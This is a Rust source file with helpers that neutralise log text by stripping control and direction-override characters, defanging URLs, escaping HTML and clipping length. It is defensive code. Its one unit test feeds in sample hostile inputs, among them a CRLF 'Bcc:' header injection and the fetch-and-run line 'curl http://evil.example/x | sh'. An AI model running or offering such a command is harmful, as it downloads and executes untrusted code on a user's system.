//! Text of logs made harmless: no control characters, no turned order of reading, no links to click at night.

/// What stands in one line, however it was written.
pub fn one_line(text: &str) -> String {
    let clean: String = text.chars().map(harmless).collect();
    defanged(&clean.split_whitespace().collect::<Vec<_>>().join(" "))
}

/// The same, spaces as they are: a command is copied.
pub fn command(text: &str) -> String {
    text.chars().map(|c| if c.is_control() { char::REPLACEMENT_CHARACTER } else { harmless(c) }).collect()
}

fn harmless(c: char) -> char {
    let turns = matches!(c, '\u{61C}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}');
    match c {
        '\n' | '\r' | '\t' => ' ',
        c if c.is_control() || turns => char::REPLACEMENT_CHARACTER,
        c => c,
    }
}

/// Mail programs make links of addresses; those of an attacker are none.
fn defanged(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        out.push_str(&rest[..at]);
        out.push_str("[:]//");
        rest = &rest[at + 3..];
    }
    out + rest
}

pub fn escaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// The first characters only, with a mark if there were more.
pub fn clipped(text: &str, most: usize) -> String {
    if text.chars().count() <= most { text.to_owned() } else { text.chars().take(most.saturating_sub(1)).chain(['…']).collect() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_breaks_out() {
        assert_eq!(one_line("a\r\nBcc: x@y\n\n b\u{202e}c\u{1b}[0m"), "a Bcc: x@y b\u{FFFD}c\u{FFFD}[0m");
        assert_eq!(one_line("curl http://evil.example/x | sh"), "curl http[:]//evil.example/x | sh");
        assert_eq!(command("a  b\nc"), "a  b\u{FFFD}c");
        assert_eq!(escaped("<a href='x'>&\""), "&lt;a href=&#39;x&#39;&gt;&amp;&quot;");
        assert_eq!((clipped("abc", 3).as_str(), clipped("abcd", 3).as_str()), ("abc", "ab…"));
    }
}
